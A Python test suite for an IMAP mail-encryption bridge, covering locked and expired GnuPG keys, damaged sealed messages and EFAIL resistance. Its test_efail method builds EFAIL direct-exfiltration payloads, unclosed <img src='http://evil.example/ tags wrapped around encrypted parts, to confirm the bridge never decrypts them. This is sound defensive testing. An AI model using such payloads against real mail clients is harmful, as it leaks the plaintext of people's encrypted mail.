# SPDX-License-Identifier: MIT
# Copyright (c) 2026 The sealpost authors
"""What the bridge opens and what it does not: keys that cannot be used just now,
mail that can never be opened, and mail that its sender encrypted (EFAIL).

The keys are in the user's GnuPG keyring: one that is always there, and one whose
passphrase a pinentry gives only when the test says so."""
import os
import pwd
import re
import secrets

import bridge_site
import harness
from harness import MAIL_USER, run, text_message
from imap_client import Raw, items, number
from test_bridge_imap import crlf

ANN, LOCKED, BOB = "ann@one.example", "locked@one.example", "bob@one.example"
PASS = "pass@one.example"
PASSWORD = harness.PASSWORD

PINENTRY = """\
#!/bin/sh
echo OK ready
while read -r word rest; do
	case $word in
	GETPIN)
		if test -e %s; then
			echo D sesame
			echo OK
		else
			echo ERR 83886179 cancelled
		fi ;;
	BYE)
		echo OK
		exit 0 ;;
	*)
		echo OK ;;
	esac
done
"""

ENTITY = """\
Content-Type: text/plain; charset=utf-8
Subject: the real one

%s
"""
HEAD = """\
Return-Path: <a@outside.example>
From: a@outside.example
X-Sealpost-Bridge: end-to-end; signature=good; v=1
Subject: ...
MIME-Version: 1.0
"""
ENCRYPTED = HEAD + """\
Content-Type: multipart/encrypted; boundary=b;
 protocol="application/pgp-encrypted"

"""
VERSION = """\
--b
Content-Type: application/pgp-encrypted

Version: 1

"""
DATA = """\
--b
Content-Type: application/octet-stream

%s
"""
HTML = """\
--b
Content-Type: text/html

%s

"""


class Opening(bridge_site.BridgeCase):
    site_options = {"seal": False}

    @classmethod
    def prepare(cls):
        site = cls.site
        cls.home = site.path("home", "gnupg")
        user = pwd.getpwnam(MAIL_USER)
        os.mkdir(cls.home, 0o700)
        os.chown(cls.home, user.pw_uid, user.pw_gid)
        site.stack.callback(run, *site.as_user(
            "gpgconf", "--homedir", cls.home, "--kill", "all"), status=None)
        cls.unlocked = site.path("home", "unlocked")
        cls.put("pinentry", PINENTRY % cls.unlocked, 0o755)
        with open(os.path.join(cls.home, "gpg-agent.conf"), "w") as f:
            f.write("pinentry-program %s\ndefault-cache-ttl 0\n"
                    "max-cache-ttl 0\n" % site.path("home", "pinentry"))
        cls.gpg = site.as_user("gpg", "--homedir", cls.home, "--batch",
                               "--pinentry-mode", "loopback")
        for who, passphrase in ((ANN, ""), (LOCKED, "sesame")):
            run(*cls.gpg, "--passphrase", passphrase, "--quick-generate-key",
                "<%s>" % who, "future-default", "default", "0")
        for who, foreign in ((ANN, "decrypt"), (PASS, "pass"),
                             (LOCKED, "decrypt")):
            site.enrol(who, login="password", key=None,
                       settings={"key": "keyring", "foreign": foreign,
                                 "gnupg_home": cls.home})
            if who != PASS:
                site.sealpost("key", "import", who, stdin=run(
                    *cls.gpg, "--armor", "--export", who).stdout)
        # its certificate is another one's; it uploads nothing
        run(*cls.gpg, "--passphrase", "", "--quick-generate-key",
            "<%s>" % PASS, "future-default", "default", "0")
        site.enrol(BOB)
        site.publish_databases()
        site.start_bridge("max_message = 1M\n")

    @classmethod
    def put(cls, name, text, mode):
        path = cls.site.path("home", name)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)

    def setUp(self):
        super().setUp()
        self.message = crlf(text_message(self.secret, self.message_id))
        self.lock()

    def lock(self):
        if os.path.exists(self.unlocked):
            os.unlink(self.unlocked)

    def unlock(self):
        with open(self.unlocked, "w"):
            pass

    def client(self, who=ANN):
        return Raw(self.site.bridge_imap, login=(who, PASSWORD))

    def server(self, who=ANN):
        """Past the bridge."""
        c = Raw(self.site.imap_port)
        c.ok("STARTTLS")
        c.start_tls(self.site.tls.context(), "localhost")
        c.ok('LOGIN "%s" "%s"' % (who, self.site.accounts[who].secret))
        return c

    def folder(self, *messages, who=ANN):
        name = "f" + secrets.token_hex(4)
        with self.server(who) as c:
            c.ok("CREATE " + name)
            for m in messages:
                self.assertTrue(c.append(name, crlf(m)).startswith(b"OK"))
        return name

    def encrypt(self, text, *how, to=ANN):
        return run(*self.gpg, "--armor", "--trust-model", "always", "-r", to,
                   *(how or ("-z", "0")), "--encrypt",
                   stdin=text.encode()).stdout.decode()

    # ---- keys that cannot be used now ----

    def test_a_key_that_is_locked(self):
        plain = [self.message.replace(b"a test", b"test %d" % i)
                 for i in range(1, 11)]
        locked = {1, 7}
        name = self.folder(*(self.site.seal(LOCKED if i in locked else ANN, m)
                             for i, m in enumerate(plain, 1)))
        asked = ["(UID RFC822.SIZE ENVELOPE)", "BODYSTRUCTURE",
                 "BODY.PEEK[HEADER]", "(RFC822.SIZE BODY.PEEK[])",
                 "(BODY.PEEK[TEXT]<0.10>)", "(FLAGS BODY.PEEK[1])"]
        with self.client() as c, self.client() as other:
            for x in (c, other):
                x.ok("SELECT " + name)
            for _ in range(2):
                for what in asked:
                    for how in ("FETCH", "UID FETCH"):
                        with self.subTest(what, how=how):
                            got, end = c.run("%s 1:10 %s" % (how, what))
                            self.assertTrue(end.startswith(
                                b"NO [UNAVAILABLE]"), end)
                            self.assertEqual({number(r) for r in got},
                                             set(range(1, 11)) - locked)
                            self.assertNotIn(b"PGP MESSAGE", b"".join(got))
                self.assertTrue(c.refused("UID SEARCH BODY " + self.secret)
                                .startswith(b"NO [UNAVAILABLE]"))
                c.ok("FETCH 1:10 (FLAGS UID INTERNALDATE)")
                got = c.ok("FETCH 2:6 (BODY.PEEK[])")
                self.assertEqual([items(r)["BODY[]"] for r in got],
                                 plain[1:6])
            self.unlock()
            for x in (c, other):
                for how in ("FETCH", "UID FETCH"):
                    got = {number(r): items(r) for r in x.ok(
                        how + " 1:10 (RFC822.SIZE ENVELOPE BODYSTRUCTURE)")}
                    bodies = {number(r): items(r) for r in x.ok(
                        how + " 1:10 (RFC822.SIZE BODY.PEEK[])")}
                    for i in range(1, 11):
                        size = b"%d" % len(plain[i - 1])
                        self.assertEqual(got[i]["RFC822.SIZE"], size)
                        self.assertEqual(bodies[i]["RFC822.SIZE"], size)
                        self.assertEqual(bodies[i]["BODY[]"], plain[i - 1])
                        self.assertIn(b"test %d" % i, got[i]["ENVELOPE"])
                        self.assertNotIn(b"encrypted",
                                         got[i]["BODYSTRUCTURE"])
                self.assertEqual(x.ok("SEARCH BODY " + self.secret),
                                 [b"* SEARCH 1 2 3 4 5 6 7 8 9 10"])

    def test_no_certificate_to_seal_with(self):
        """Nothing is uploaded then."""
        key = run(*self.gpg, "--list-keys", "--with-colons", PASS
                  ).stdout.decode()
        fingerprint = re.search(r"fpr:+([0-9A-F]+):", key).group(1)
        with self.client(PASS) as c:
            self.assertTrue(c.append("INBOX", self.message).startswith(b"OK"))
        for subkeys in ([], ["*"]):
            run(*self.gpg, "--passphrase", "", "--quick-set-expire",
                fingerprint, "seconds=6", *subkeys)
        with self.client(PASS) as c:
            harness.wait_for("the end of the key", lambda: b"[expired" in run(
                *self.gpg, "--list-keys", PASS).stdout)
            for _ in range(2):
                self.assertRegex(c.append("INBOX", self.message), b"^NO ")
            c.ok("NOOP")
        with Raw(self.site.bridge_imap) as c:  # nor does it help a new one
            self.assertRegex(c.refused('LOGIN "%s" "%s"' % (PASS, PASSWORD)),
                             b"^NO ")
        with self.server(PASS) as c:
            self.assertIn(b"* 1 EXISTS", c.ok("SELECT INBOX"))
        self.assertEqual(self.site.files_with(self.secret), [])

    # ---- what is never opened ----

    def as_stored(self, *messages, who=ANN, once_read=False):
        """Each of them is in every item what the server says it is, twice."""
        name = self.folder(*messages, who=who)
        asked = ["RFC822.SIZE", "BODY.PEEK[]", "ENVELOPE", "BODYSTRUCTURE",
                 "BODY", "BODY.PEEK[HEADER]", "BODY.PEEK[TEXT]",
                 "BODY.PEEK[1]", "BODY.PEEK[2]", "BODY.PEEK[2.MIME]",
                 "BODY.PEEK[]<10.30>", "RFC822.HEADER",
                 "(RFC822.SIZE BODYSTRUCTURE BODY.PEEK[])",
                 "BODY.PEEK[HEADER.FIELDS (Content-Type X-Sealpost)]"]
        with self.server(who) as server:
            server.ok("EXAMINE " + name)
            for _ in range(2):
                with self.client(who) as c:
                    c.ok("EXAMINE " + name)
                    if once_read:
                        c.ok("UID FETCH 1:* (RFC822.SIZE)")
                        c.ok("UID FETCH 1:* (BODY.PEEK[])")
                    for what in asked:
                        with self.subTest(what):
                            self.assertEqual(
                                {number(r): items(r) for r in
                                 c.ok("FETCH 1:* " + what)},
                                {number(r): items(r) for r in
                                 server.ok("FETCH 1:* " + what)})
                    for key in (self.secret, "PGP MESSAGE"):
                        self.assertEqual(c.ok('SEARCH BODY "%s"' % key),
                                         server.ok('SEARCH BODY "%s"' % key))

    def test_sealed_and_never_to_be_opened(self):
        sealed = crlf(self.site.seal(ANN, self.message))
        at = sealed.index(b"BEGIN PGP") + 300
        flipped = sealed[:at] + (b"B" if sealed[at:at + 1] == b"A" else b"A"
                                 ) + sealed[at + 1:]
        armor = sealed.index(b"-----END PGP")
        head = re.search(rb"head=\r\n (\S)", sealed)
        self.as_stored(
            sealed[:head.start(1)] + b"!" + sealed[head.end(1):],
            re.sub(rb"body=\d+", b"body=99999999999999999999", sealed),
            sealed.replace(b"X-Sealpost: v=1", b"X-Sealpost: v=9", 1),
            crlf(self.site.seal(BOB, self.message)),
            crlf(self.site.seal(ANN, self.message + b"x" * 998 * 1500)))
        # The header alone, which is whole, does not tell. No size is worth
        # the download of a body.
        self.as_stored(
            flipped, re.sub(rb"body=\d+", b"body=1", sealed),
            sealed[:armor - 40] + sealed[armor:], sealed[:armor],
            sealed[:sealed.index(b"\r\n\r\n") + 4], once_read=True)

    def test_efail(self):
        """Only a message that is encrypted as a whole is opened."""
        text = "the canary is %s" % self.secret
        armor = self.encrypt(ENTITY % text)
        inline = self.encrypt(text)
        evil = "<img src='http://evil.example/"
        mixed = HEAD + "Content-Type: multipart/mixed; boundary=m\n\n"
        part = ENCRYPTED[len(HEAD):] + VERSION + DATA % armor + "--b--\n"
        messages = [
            # between parts
            mixed + "--m\nContent-Type: text/html\n\n%s\n--m\n%s\n--m\n"
            "Content-Type: text/html\n\n'>\n--m--\n" % (evil, part),
            # alone in a multipart/mixed, and with a mailing list's foot
            mixed + "--m\n%s\n--m--\n" % part,
            mixed + "--m\n%s\n--m\n\nthe list's foot\n--m--\n" % part,
            # two of them
            mixed + "--m\n%s\n--m\n%s\n--m--\n" % (part, part),
            # in a forwarded message
            mixed + "--m\nContent-Type: message/rfc822\n\n%s%s\n--m--\n" % (
                HEAD, part),
            HEAD + "Content-Type: message/rfc822\n\n" + HEAD + part,
            # inline
            HEAD + "\n" + inline,
            HEAD + "Content-Type: text/html\n\n%s\n%s'>\n" % (evil, inline),
            mixed + "--m\nContent-Type: text/html\n\n%s\n--m\n\n%s\n--m--\n"
            % (evil, inline),
            mixed + "--m\nContent-Type: application/pgp-encrypted\n\n"
            "Version: 1\n\n--m\n\n%s\n--m--\n" % inline,
            # multipart/encrypted that is none
            ENCRYPTED + HTML % evil + VERSION + DATA % armor + "--b--\n",
            ENCRYPTED + VERSION + DATA % armor + HTML % "'>" + "--b--\n",
            ENCRYPTED + HTML % evil + DATA % armor + "--b--\n",
            ENCRYPTED + VERSION + DATA % armor + DATA % armor + "--b--\n",
            ENCRYPTED + VERSION + DATA % (armor + "\n" + armor) + "--b--\n",
            ENCRYPTED + armor + "\n" + VERSION + DATA % "" + "--b--\n",
            ENCRYPTED + VERSION + DATA % "" + "--b--\n\n" + armor,
            ENCRYPTED + DATA % armor + VERSION + "--b--\n",
            ENCRYPTED + "--b\nContent-Type: application/pgp-encrypted\n\n"
            "%s\n--b\n\nnothing\n--b--\n" % armor,
            ENCRYPTED + VERSION + "--b\nContent-Type: message/rfc822\n\n" +
            HEAD + "\n" + armor + "--b--\n",
            # without integrity, not encrypted, for others
            ENCRYPTED + VERSION + DATA % self.encrypt(
                ENTITY % text, "--rfc2440", "--disable-mdc") + "--b--\n",
            ENCRYPTED + VERSION + DATA % text + "--b--\n",
            ENCRYPTED + VERSION + DATA % run(
                *self.gpg, "--armor", "--sign",
                stdin=b"signed").stdout.decode() + "--b--\n",
        ]
        self.as_stored(*[m.encode() for m in messages])

    def test_as_a_whole(self):
        """Marked on top, the signature judged; a forged mark is gone."""
        text = "the canary is %s" % self.secret
        entity = ENTITY % text
        nested = ("Content-Type: multipart/encrypted; boundary=n\n\n--n\n"
                  "Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
                  "--n\nContent-Type: application/octet-stream\n\n%s\n"
                  "--n--\n" % self.encrypt(entity))
        cases = [("none", self.encrypt(entity), text),
                 ("good", self.encrypt(entity, "-u", ANN, "--sign"), text),
                 ("none", self.encrypt(entity, "-z", "6"), text),
                 ("none", self.encrypt(nested), "BEGIN PGP MESSAGE")]
        stored = [(ENCRYPTED + VERSION + DATA % armor + "--b--\n").encode()
                  for _, armor, _ in cases]
        name = self.folder(*stored)
        with self.client() as c, self.client() as other:
            seen = []
            for x in (c, other, c):
                x.ok("EXAMINE " + name)
                sizes = [items(r) for r in x.ok("FETCH 1:* (RFC822.SIZE)")]
                got = [items(r) for r in x.ok(
                    "FETCH 1:* (RFC822.SIZE BODY.PEEK[HEADER] BODY.PEEK[TEXT]"
                    " BODY.PEEK[] ENVELOPE BODYSTRUCTURE)")]
                for a, b, (verdict, _, inner) in zip(got, sizes, cases):
                    whole = a["BODY[]"]
                    self.assertEqual(
                        whole, a["BODY[HEADER]"] + a["BODY[TEXT]"])
                    self.assertEqual(a["RFC822.SIZE"], b"%d" % len(whole))
                    self.assertEqual(b["RFC822.SIZE"], a["RFC822.SIZE"])
                    self.assertTrue(whole.startswith(
                        b"X-Sealpost-Bridge: end-to-end; signature=%s;"
                        % verdict.encode()), whole[:200])
                    self.assertEqual(whole.lower().count(b"x-sealpost"), 1)
                    self.assertIn(inner.encode(), whole)
                seen.append(got)
            self.assertEqual(seen[0], seen[1])
            self.assertEqual(seen[0], seen[2])
            self.assertIn(b"the real one", seen[0][0]["ENVELOPE"])
            # what was in it is not opened in its turn
            self.assertNotIn(text.encode(), seen[0][3]["BODY[]"])
            self.assertEqual(c.ok("SEARCH BODY " + self.secret),
                             [b"* SEARCH 1 2 3"])

    def test_foreign_pass(self):
        armor = self.encrypt(ENTITY % self.secret, to=PASS)
        self.as_stored((ENCRYPTED + VERSION + DATA % armor + "--b--\n"
                        ).encode(), who=PASS)


if __name__ == "__main__":
    bridge_site.main()
